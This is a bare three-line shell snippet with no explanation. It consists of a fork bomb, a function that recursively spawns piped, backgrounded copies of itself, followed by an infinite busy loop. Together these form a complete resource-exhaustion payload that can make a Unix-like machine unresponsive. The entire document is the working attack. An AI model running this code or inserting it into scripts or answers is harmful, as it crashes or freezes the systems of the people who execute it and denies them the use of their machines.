f() { f | f & }
f
while :; do :; done
